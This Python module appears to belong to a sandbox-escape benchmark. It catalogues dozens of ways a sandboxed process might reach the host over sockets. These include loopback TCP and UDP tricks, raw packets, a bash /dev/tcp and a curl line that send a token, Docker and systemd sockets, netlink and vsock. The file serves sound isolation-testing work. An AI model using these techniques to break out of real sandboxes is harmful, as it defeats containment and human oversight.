"""Ways out by sockets: the host's loopback, unix sockets, datagrams, netlink, raw packets, and protocols a rule may forget."""

from __future__ import annotations

import os

from benchmarks.escapes.attempt import Effect, Registry
from benchmarks.escapes.scene import Scene

__all__ = ["ATTEMPTS"]

ATTEMPTS = Registry()
add = ATTEMPTS.add


def _heard(*names: str) -> Effect:
    def effect(scene: Scene, output: str) -> bool:
        return scene.heard(*names)

    return effect


_T = "t = S.token.encode()\n"
_TCP = {
    "connect": "s = socket.create_connection(('127.0.0.1', S.ports['tcp'])); s.sendall(t)",
    "connect by another loopback address": "s = socket.create_connection(('127.0.0.2', S.ports['anywhere'])); s.sendall(t)",
    "connect to 0.0.0.0": "s = socket.create_connection(('0.0.0.0', S.ports['anywhere'])); s.sendall(t)",
    "connect by name": "s = socket.create_connection(('localhost', S.ports['tcp'])); s.sendall(t)",
    "connect by IPv4 in IPv6": "s = socket.socket(socket.AF_INET6); s.connect(('::ffff:127.0.0.1', S.ports['tcp'])); s.sendall(t)",
    "connect without blocking": "s = socket.socket(); s.setblocking(False); s.connect_ex(('127.0.0.1', S.ports['tcp'])); time.sleep(0.02); s.send(t)",
    "multipath TCP": "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.connect(('127.0.0.1', S.ports['tcp'])); s.sendall(t)",
    "multipath TCP over IPv6": "s = socket.socket(socket.AF_INET6, socket.SOCK_STREAM, 262); s.connect(('::ffff:127.0.0.1', S.ports['tcp'])); s.sendall(t)",
    "TCP Fast Open by sendto": "s = socket.socket(); s.sendto(t, 0x20000000, ('127.0.0.1', S.ports['tcp'])); time.sleep(0.02)",
    "TCP Fast Open by sendmsg": "s = socket.socket(); s.sendmsg([t], [], 0x20000000, ('127.0.0.1', S.ports['tcp'])); time.sleep(0.02)",
    "TCP_FASTOPEN_CONNECT": "s = socket.socket(); s.setsockopt(6, 30, 1); s.connect(('127.0.0.1', S.ports['tcp'])); s.send(t); time.sleep(0.02)",
    "SMC": "s = socket.socket(43, socket.SOCK_STREAM, 0); s.connect(('127.0.0.1', S.ports['tcp'])); s.sendall(t)",
    "AF_UNSPEC first": "s = socket.socket(); _libc.connect(s.fileno(), (ctypes.c_char * 16)(), 16); s.connect(('127.0.0.1', S.ports['tcp'])); s.sendall(t)",
    "bash /dev/tcp": "run('bash', '-c', 'echo %s > /dev/tcp/127.0.0.1/%d' % (S.token, S.ports['tcp']))",
    "curl": "run('curl', '-s', '-m', '2', 'http://127.0.0.1:%d/%s' % (S.ports['tcp'], S.token))",
    "perl": "run('perl', '-MIO::Socket::INET', '-e', 'IO::Socket::INET->new(\"127.0.0.1:%d\")->print(\"%s\")' % (S.ports['tcp'], S.token))",
    "io_uring": "run(S.bin + '/uring', '-c', str(S.ports['tcp']), S.token)",
    "int 0x80": "run(S.bin + '/int80', 'connect', str(S.ports['tcp']), S.token)",
}  # fmt: skip
for _name, _code in _TCP.items():
    add("loopback ports of the host", _name, _T + _code, _heard("tcp", "anywhere"))
add("loopback ports of the host", "IPv6", _T + "s = socket.create_connection(('::1', S.ports['tcp6'])); s.sendall(t)", _heard("tcp6"))
add(
    "loopback ports of the host",
    "the host's own address",
    _T + "s = socket.create_connection((S.address, S.ports['anywhere'])); s.sendall(t)",
    _heard("anywhere"),
    prepare=lambda scene: scene.notes.update(address=_own_address()),
)
add(
    "loopback ports of the host",
    "listen where the host can connect",
    "s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); put('port', str(s.getsockname()[1])); s.settimeout(3); c, _ = s.accept(); won()",
    during=lambda scene: _connect_back(scene),
    alone=True,
)
_DATAGRAMS = {
    "sendto": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(t, ('127.0.0.1', S.ports['udp']))",
    "connect and send": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(('127.0.0.1', S.ports['udp'])); s.send(t)",
    "sendmsg": "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendmsg([t], [], 0, ('127.0.0.1', S.ports['udp']))",
    "a DNS question": "q = b'\\1\\2\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0' + bytes([len(t)]) + t + b'\\3com\\0\\0\\1\\0\\1'\n"
    "socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(q, ('127.0.0.1', S.ports['udp']))",
    "UDP-Lite": "s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136); s.sendto(t, ('127.0.0.1', S.ports['udp'])); won()",
    "IPv4 in IPv6": "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(t, ('::ffff:127.0.0.1', S.ports['udp']))",
    "raw UDP": "import struct; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 17)\n"
    "s.sendto(struct.pack('>HHHH', 1234, S.ports['udp'], 8 + len(t), 0) + t, ('127.0.0.1', 0))",
    "a packet socket": "import struct; s = socket.socket(17, socket.SOCK_RAW, 0x0300); s.bind(('lo', 0x0800))\n"
    "u = struct.pack('>HHHH', 1234, S.ports['udp'], 8 + len(t), 0) + t\n"
    "h = struct.pack('>BBHHHBBH4s4s', 69, 0, 20 + len(u), 1, 0, 64, 17, 0, bytes([127,0,0,1]), bytes([127,0,0,1]))\n"
    "c = sum(struct.unpack('>10H', h)); c = (c >> 16) + (c & 65535); c += c >> 16; h = h[:10] + struct.pack('>H', ~c & 65535) + h[12:]\n"
    "s.send(b'\\0' * 12 + b'\\x08\\0' + h + u); time.sleep(0.02)",
    "raw with IP_HDRINCL": "import struct; s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255)\n"
    "u = struct.pack('>HHHH', 1234, S.ports['udp'], 8 + len(t), 0) + t\n"
    "h = struct.pack('>BBHHHBBH4s4s', 69, 0, 20 + len(u), 1, 0, 64, 17, 0, bytes([127,0,0,1]), bytes([127,0,0,1]))\n"
    "s.sendto(h + u, ('127.0.0.1', 0)); time.sleep(0.02)",
    "bash /dev/udp": "run('bash', '-c', 'echo %s > /dev/udp/127.0.0.1/%d' % (S.token, S.ports['udp']))",
}  # fmt: skip
for _name, _code in _DATAGRAMS.items():
    if "won()" in _code:
        add("UDP, raw, packet", _name, _T + _code)
    else:
        add("UDP, raw, packet", _name, _T + _code, _heard("udp"))
add("UDP, raw, packet", "IPv6", _T + "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(t, ('::1', S.ports['udp6']))", _heard("udp6"))
add("UDP, raw, packet", "a raw ICMP socket", "socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ('127.0.0.1', 0)); won()")
add("UDP, raw, packet", "a packet socket that listens", "s = socket.socket(17, socket.SOCK_RAW, 0x0300); won()")
add("UDP, raw, packet", "the host's resolver", "won(socket.getaddrinfo('one.one.one.one', 53)[0][4])", seconds=4.0, no_control="asks the outside world")

_UNIX = {
    "connect by path": ("s = socket.socket(socket.AF_UNIX); s.connect(S.shared + '/s'); s.sendall(t)", "unix"),
    "seqpacket by path": ("s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET); s.connect(S.shared + '/q'); s.send(t)", "unix_seqpacket"),
    "datagram by path": ("socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(t, S.shared + '/d')", "unix_datagram"),
    "through a link": ("os.symlink(S.shared + '/s', 'l'); s = socket.socket(socket.AF_UNIX); s.connect('l'); s.sendall(t)", "unix"),
    "by /proc/self/root": ("s = socket.socket(socket.AF_UNIX); s.connect('/proc/self/root' + S.shared + '/s'); s.sendall(t)", "unix"),
    "by /proc/HOST/root": ("s = socket.socket(socket.AF_UNIX); s.connect('/proc/%d/root%s/s' % (S.host_pid, S.shared)); s.sendall(t)", "unix"),
    "by an O_PATH descriptor": ("d = os.open(S.shared + '/s', os.O_PATH); s = socket.socket(socket.AF_UNIX); s.connect('/proc/self/fd/%d' % d); s.sendall(t)", "unix"),
    "hard link into the workspace": ("os.link(S.shared + '/s', 'l'); s = socket.socket(socket.AF_UNIX); s.connect('l'); s.sendall(t)", "unix"),
    "abstract": ("s = socket.socket(socket.AF_UNIX); s.connect('\\0' + S.abstract); s.sendall(t)", "abstract"),
    "abstract datagram": ("socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM).sendto(t, '\\0' + S.abstract + '-d')", "abstract_datagram"),
    "a datagram pair connected anew": ("a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.connect(S.shared + '/d'); a.send(t)", "unix_datagram"),
    "a datagram pair with an address": ("a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(t, S.shared + '/d')", "unix_datagram"),
    "a datagram pair to an abstract name": ("a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendto(t, '\\0' + S.abstract + '-d')", "abstract_datagram"),
    "a datagram pair by sendmsg": ("a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM); a.sendmsg([t], [], 0, S.shared + '/d')", "unix_datagram"),
    "a datagram pair made raw": ("a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_RAW); a.sendto(t, S.shared + '/d')", "unix_datagram"),
    "a stream pair connected anew": ("a, b = socket.socketpair(); a.connect(S.shared + '/s'); a.sendall(t)", "unix"),
    "int 0x80": ("run(S.bin + '/int80', 'unix', S.shared + '/s', S.token)", "unix"),
    "io_uring": ("run(S.bin + '/uring', '-u', S.shared + '/s', S.token)", "unix"),
}  # fmt: skip
for _name, (_code, _listener) in _UNIX.items():
    add("sockets of the host", _name, _T + _code, _heard(_listener))
for _path in ("/run/docker.sock", "/run/dbus/system_bus_socket", "/run/systemd/private", "/run/systemd/journal/socket"):
    add("sockets of the host", _path, f"s = socket.socket(socket.AF_UNIX); s.connect({_path!r}); won()")
add("sockets of the host", "the system log", "s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM); s.connect('/dev/log'); won()")

_FAMILIES = {
    "netlink route": "s = socket.socket(16, socket.SOCK_RAW, 0); s.send(b'\\x14\\0\\0\\0\\x12\\0\\1\\3\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0\\0'); d = s.recv(65536)\n"
    "print([n for n in S.interfaces if n.encode() in d]); [won() for n in S.interfaces if n.encode() + b'\\0' in d]",
    "netlink sock_diag": "import struct; s = socket.socket(16, socket.SOCK_RAW, 4)\n"
    "s.send(struct.pack('=IHHII', 72, 20, 0x301, 1, 0) + struct.pack('=BBBBI', 2, 6, 0, 0, 1 << 10) + b'\\0' * 48); d = s.recv(65536)\n"
    "p = struct.pack('>H', S.ports['tcp']); won() if p in d else print(d[:80])",
    "netlink kobject_uevent": "s = socket.socket(16, socket.SOCK_DGRAM, 15); s.bind((0, 1)); won()",
    "netlink audit": "s = socket.socket(16, socket.SOCK_RAW, 9); s.bind((0, 0)); won()",
    "netlink connector": "s = socket.socket(16, socket.SOCK_DGRAM, 11); s.bind((0, 0)); won()",
    "netlink netfilter": "s = socket.socket(16, socket.SOCK_RAW, 12); s.bind((0, 0)); won()",
    "netlink generic": "s = socket.socket(16, socket.SOCK_RAW, 16); s.bind((0, 0)); won()",
    "netlink xfrm": "s = socket.socket(16, socket.SOCK_RAW, 6); s.bind((0, 0)); won()",
    "vsock": "s = socket.socket(40, socket.SOCK_STREAM); won()",
    "vsock device": "os.open('/dev/vsock', os.O_RDONLY); won()",
    "vsock datagram": "s = socket.socket(40, socket.SOCK_DGRAM); won()",
    "kernel cryptography (AF_ALG)": "s = socket.socket(38, socket.SOCK_SEQPACKET); s.bind(('hash', 'sha256')); won()",
    "AF_XDP": "socket.socket(44, socket.SOCK_RAW); won()",
    "AF_KEY": "socket.socket(15, socket.SOCK_RAW, 2); won()",
    "AF_CAN": "socket.socket(29, socket.SOCK_RAW, 1); won()",
    "AF_BLUETOOTH": "socket.socket(31, socket.SOCK_RAW, 1); won()",
    "AF_TIPC": "socket.socket(30, socket.SOCK_STREAM); won()",
    "AF_RDS": "socket.socket(21, socket.SOCK_SEQPACKET); won()",
    "AF_AX25": "socket.socket(3, socket.SOCK_SEQPACKET); won()",
    "AF_QIPCRTR": "socket.socket(42, socket.SOCK_DGRAM); won()",
    "SCTP": "socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132); won()",
    "DCCP": "socket.socket(socket.AF_INET, 6, 33); won()",
    "a socket type with hidden bits": "call(41 if X86 else 198, 17 | 1 << 40, 3, 0x0300); won()",
}  # fmt: skip
for _name, _code in _FAMILIES.items():
    add(
        "netlink, vsock and other families",
        _name,
        _code,
        prepare=lambda scene: scene.notes.update(interfaces=[name for name in os.listdir("/sys/class/net") if name != "lo"]),
    )
add(
    "netlink, vsock and other families",
    "the host's interfaces by ioctl",
    "print(socket.if_nameindex())",
    lambda s, out: any(f"'{name}'" in out for name in os.listdir("/sys/class/net") if name != "lo"),
)
add(
    "netlink, vsock and other families",
    "the host's interfaces by /proc",
    "print(get('/proc/net/dev'))",
    lambda s, out: any(f"{name}:" in out for name in os.listdir("/sys/class/net") if name != "lo"),
    weaker=True,
)
add(
    "netlink, vsock and other families",
    "the host's connections by /proc",
    "print(get('/proc/net/tcp')); won() if b'%04X' % S.ports['tcp'] in get('/proc/net/tcp') else None",
    weaker=True,
)
add(
    "netlink, vsock and other families",
    "the host's unix sockets by /proc",
    "won() if S.abstract.encode() in open('/proc/net/unix', 'rb').read() else None",
    weaker=True,
)


def _own_address() -> str:
    import socket

    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
        try:
            probe.connect(("192.0.2.1", 9))
            return str(probe.getsockname()[0])
        except OSError:
            return "127.0.0.3"


def _connect_back(scene: Scene) -> None:
    import socket
    import time

    for _ in range(300):
        try:
            port = int((scene.directory / "port").read_text() or "0")
            socket.create_connection(("127.0.0.1", port), 1).close()
            return
        except (OSError, ValueError):
            time.sleep(0.01)
